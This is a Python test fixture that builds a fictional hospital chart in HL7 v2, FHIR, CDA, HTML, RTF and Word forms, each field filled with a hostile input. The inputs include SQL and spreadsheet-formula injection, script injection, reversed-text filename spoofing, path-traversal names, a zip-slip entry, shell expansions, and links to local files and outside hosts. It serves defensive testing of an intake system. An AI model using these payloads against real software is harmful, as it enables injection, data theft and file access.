"""A chart whose every word was written to do harm, in every kind of message that is taken. Nobody in it exists."""

import io
import json
import zipfile
from datetime import UTC, datetime
from html import escape
from pathlib import Path

from chartlight.desk import Actor, Desk, ThrowawayKey
from chartlight.intake.files import hl7v2_message
from chartlight.intake.message import MessageKind, RawMessage

NOW = datetime(2026, 11, 20, 12, tzinfo=UTC)
STAY, LEFT = "V'1; DROP TABLE admission; --", "V-2"
MRN = "=1+1' OR '1'='1"
MARKUP = "<img src='file:///etc/hostname'><b onclick=x>"
TURNED = "\u202egnp.exe\u2066"
FAMILY = f"{MARKUP}Probe\u202e"
GIVEN = "Pet\x1bra\x00\u200b"
UNIT, BED = "=cmd|'/c calc'!A1", "<h1>12</h1>"
DOCTOR = "@SUM(A1)<a href='http://192.0.2.1/x'>"
TITLE = f"+HYPERLINK(1){TURNED}<script>alert(1)</script>"
ANALYTE, SYMBOL = "<b>Lactate</b>\u202e", "mg/dL<u>"
NOTE = (
    "ASSESSMENT AND PLAN: Sepsis due to RLL pneumonia, ceftriaxone. Acute kidney injury, creatinine 2.9.\n"
    "<img src='file:///etc/hostname'><a href='http://192.0.2.1/x'>sign here</a> \u202edetrever\u202c &lt;b&gt;\x07\n"
    "=HYPERLINK(\"http://192.0.2.1\");=1+1\t=2+2 '; DROP TABLE note; --\n"
    + "e" + "\u0301" * 300 + "\n" + "{{question}} %s %(name)s ${HOME} `id`"
)  # fmt: skip
TURNS = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
"""Characters that turn the order of others round."""


def _field(text: str) -> str:
    """Text as a field of HL7 v2 that means just this text."""
    marked = text.replace("\\", "\ue000E\ue000")
    for sign, name in (("|", "F"), ("^", "S"), ("&", "T"), ("~", "R"), ("\n", ".br"), ("\x00", "X00")):
        marked = marked.replace(sign, f"\ue000{name}\ue000")
    return marked.replace("\ue000", "\\")


def hl7(kind: str, control: str, stay: str, *segments: str, end: str = "") -> RawMessage:
    """A message about a stay."""
    pv1 = ["PV1", "1", "I", f"{_field(UNIT)}^^{_field(BED)}", "", "", "", f"7^{_field(DOCTOR)}"] + [""] * 11
    pv1 += [_field(stay)] + [""] * 16 + (["01"] if end else [""]) + [""] * 7 + ["20261117080000", end]
    lines = (
        f"MSH|^~\\&|{_field(MARKUP + TURNED)}|{_field(UNIT)}|CL|CL|20261120080000||{kind}|{_field(control)}|P|2.5.1",
        f"PID|1||{_field(MRN)}^^^{_field(MARKUP)}^MR||{_field(FAMILY)}^{_field(GIVEN)}||19500101|F",
        "|".join(pv1),
        *segments,
    )
    return hl7v2_message("\r".join(lines).encode() + b"\r", f"../..{TURNED}.hl7")


def messages(stay: str = STAY, *, end: str = "") -> list[RawMessage]:
    """The stay in HL7 v2: admitted, a note, results; with `end` discharged."""
    lab = (
        f"OBR|1||1|{_field(TITLE)}|||20261120060000",
        f"OBX|1|NM|{_field(ANALYTE)}^{_field(ANALYTE)}^{_field(MARKUP)}||4.1|{_field(SYMBOL)}|{_field(MARKUP)}|H|||F",
        f"OBX|2|NM|2160-0^{_field('Creatinine' + MARKUP)}^LN||2.9|mg/dL|0.6-1.1|HH|||F",
        f"OBX|3|ST|X1^{_field(TITLE)}^L||{_field(TITLE)}|||||||F",
    )
    note = (
        f"TXA|1|PN|TX|20261120070000||||||||{_field('N1' + MARKUP)}|||||AU",
        f"OBX|1|TX|11506-3^{_field(TITLE)}^LN||{_field(NOTE)}||||||F",
    )
    made = [
        hl7("ADT^A01", f"{stay}{MARKUP}1{TURNED}", stay),
        hl7("ORU^R01", f"{stay}{MARKUP}2", stay, *lab),
        hl7("MDM^T02", f"{stay}{MARKUP}3", stay, *note),
    ]
    return [*made, hl7("ADT^A03", f"{stay}4", stay, end=end)] if end else made


def fhir() -> RawMessage:
    """A stay in FHIR, its reference an address of another machine."""
    stay = {"reference": "Encounter/e1"}
    notes = [
        {"resourceType": "DocumentReference", "id": "d1", "status": "current", "subject": {"reference": "Patient/p1"},
         "context": {"encounter": [stay]}, "date": "2026-11-20T08:00:00Z", "description": TITLE,
         "type": {"text": TITLE}, "content": [{"attachment": {"contentType": "text/plain", "data": _base64(NOTE)}}]},
        *(
            {"resourceType": "DocumentReference", "id": f"x{number}", "status": "current",
             "subject": {"reference": "Patient/p1"}, "context": {"encounter": [stay]},
             "content": [{"attachment": {"contentType": "text/plain", "url": address}}]}
            for number, address in enumerate(ELSEWHERE)
        ),
    ]  # fmt: skip
    patient = {"resourceType": "Patient", "id": "p1", "identifier": [{"value": MRN}],
               "name": [{"family": FAMILY, "given": [GIVEN.replace("\x00", "")]}]}  # fmt: skip
    encounter = {"resourceType": "Encounter", "id": "e1", "status": "in-progress",
                 "class": {"code": "IMP"}, "subject": {"reference": "Patient/p1"},
                 "period": {"start": "2026-11-18T08:00:00Z"}, "reasonCode": [{"text": MARKUP}],
                 "location": [{"location": {"display": UNIT}}]}  # fmt: skip
    entries = [{"resource": one} for one in (patient, encounter, *notes)]
    body = json.dumps({"resourceType": "Bundle", "type": "collection", "entry": entries}).encode()
    return RawMessage("FHIR", "F1", MessageKind.FHIR, body, f"..\\..\\{MARKUP}.json")


ELSEWHERE = (
    "file:///etc/hostname",
    "http://192.0.2.1/x",
    "//192.0.2.1/x",
    "ftp://192.0.2.1/x",
    "http://127.0.0.1@192.0.2.1/x",
    "\\\\192.0.2.1\\share",
    "data:text/plain,x",
)
"""Where an attachment must not be fetched from."""


def _base64(text: str) -> str:
    from base64 import b64encode

    return b64encode(text.encode()).decode()


def documents() -> list[RawMessage]:
    """The note as text, HTML, CDA, RTF and Word, each under a name that would lead elsewhere."""
    words = "".join(letter for letter in NOTE if letter.isprintable() or letter in "\n\u202e\u202c")
    cda = (
        '<ClinicalDocument xmlns="urn:hl7-org:v3"><id extension="C1"/><title>{0}</title><recordTarget><patientRole>'
        '<id extension="{1}"/><patient><name><family>{2}</family></name></patient></patientRole></recordTarget>'
        '<componentOf><encompassingEncounter><id extension="V-C"/></encompassingEncounter></componentOf>'
        "<component><structuredBody><component><section><title>{0}</title><text><paragraph>{3}</paragraph>"
        "<linkHtml href='http://192.0.2.1/x'>x</linkHtml><renderMultiMedia referencedObject='file:///etc/hostname'/>"
        "</text></section></component></structuredBody></component></ClinicalDocument>"
    ).format(*(escape(one.replace("\x1b", "").replace("\x00", "")) for one in (TITLE, MRN, FAMILY, words)))
    html = (
        f"<html><head><script>alert(1)</script><meta http-equiv=refresh content='0;url=http://192.0.2.1'></head><body>"
        f"<p>Pneumonia. {escape(words)}</p><iframe src='file:///etc/hostname'></iframe><img src=x onerror=alert(1)>"
    )
    rtf = (
        '{\\rtf1 Pneumonia {\\field{\\*\\fldinst HYPERLINK "http://192.0.2.1"}{\\fldrslt here}}'
        "{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 00}}}"
    )
    bodies = {
        f"../../etc/{TURNED}.txt": NOTE.encode(),
        "..\\..\\evil.html": html.encode(),
        "C:\\Windows\\x.xml": cda.encode(),
        "CON.rtf": rtf.encode(),
        f"{'x' * 240}.docx": word(words),
    }
    return [
        RawMessage("document", f"D{number}", MessageKind.DOCUMENT, body, name)
        for number, (name, body) in enumerate(bodies.items())
    ]


def word(text: str) -> bytes:
    """A Word document with a text, and a picture and a template that lie on another machine."""
    import docx

    out = io.BytesIO()
    made = docx.Document()
    made.add_paragraph("".join(letter for letter in text if letter.isprintable()))
    made.save(out)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("../../evil.xml", "<a/>")
        archive.writestr(
            "word/_rels/settings.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="r1" TargetMode="External" Target="http://192.0.2.1/t.dotm" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>',
        )
    return out.getvalue()


def filled(folder: Path) -> Desk:
    """A desk with two stays of the hostile patient, one of them discharged, one in FHIR, and the documents."""
    desk = Desk.open(folder, ThrowawayKey(), Actor("Tester"))
    desk.take_in([*messages(), *messages(LEFT, end="20261120090000"), fhir(), *documents()], NOW)
    return desk
